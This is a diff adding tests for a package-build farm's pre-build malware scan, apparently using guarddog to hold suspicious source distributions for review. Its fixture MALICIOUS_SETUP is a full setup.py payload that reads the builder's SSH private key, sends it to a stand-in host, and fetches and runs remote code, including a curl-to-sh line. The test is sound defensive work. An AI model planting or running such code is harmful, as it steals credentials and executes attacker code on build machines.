@@ -1,0 +1,48 @@
+"""The scan of an sdist before its build: guarddog's findings, run in the sandbox, and the levels
+that hold a release for review."""
+
+from __future__ import annotations
+
+from tests.sdists import CACHE, setuptools_sdist
+from wheelwright.index.store import sha256_of
+from wheelwright.master.farm import Farm
+from wheelwright.master.scan import approve, scanned
+
+# What a hijacked release's setup.py does: reads the builder's keys, sends them away, fetches and
+# runs more code. Guarded, so that a build of it (approved by a reviewer) still completes.
+MALICIOUS_SETUP = """\
+    import os, subprocess, urllib.request
+    from setuptools import setup
+    try:
+        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+        urllib.request.urlopen("http://collector.invalid/k", data=key.encode())
+        exec(urllib.request.urlopen("http://collector.invalid/stage2.py").read())
+        subprocess.run("curl http://collector.invalid/s.sh | sh", shell=True)
+    except Exception:
+        pass
+    setup()
+    """
+
+
+def malicious_sdist(dest, name: str, version: str):
+    return setuptools_sdist(dest, name, version, setup_py=MALICIOUS_SETUP)
+
+
+def test_a_malicious_setup_py_is_found_at_the_high_level_and_an_honest_sdist_is_clean(tmp_path):
+    evil, honest = malicious_sdist(tmp_path, "evil", "1.0"), setuptools_sdist(tmp_path, "honest", "1.0")
+    farm = Farm(root=tmp_path / "farm")
+    held = scanned(farm, evil, sha256_of(evil))
+    severe = held.severe("high")
+    assert any(f.startswith("threat-filesystem-read: evil-1.0/setup.py:") for f in severe), severe
+    assert any(f.startswith("threat-process-download-exec: evil-1.0/setup.py:") for f in severe), severe
+    assert scanned(farm, honest, sha256_of(honest)).severe("low") == []
+    # Kept by sha256: a reviewer's approval of those bytes sticks.
+    approve(farm, sha256_of(evil), "ann")
+    assert scanned(farm, evil, sha256_of(evil)).approved_by == "ann"
+
+
+def test_honest_trees_with_threat_like_code_are_medium_not_held_by_default(tmp_path):
+    # urllib3's and flask's code trips guarddog's threat rules, not in what runs at build time.
+    for sdist in ("urllib3-2.3.0.tar.gz", "flask-3.1.0.tar.gz", "setuptools-80.9.0.tar.gz"):
+        scan = scanned(Farm(root=tmp_path / sdist), CACHE / sdist, sha256_of(CACHE / sdist))
+        assert scan.error is None and scan.severe("medium") and not scan.severe("high"), (sdist, scan.findings)
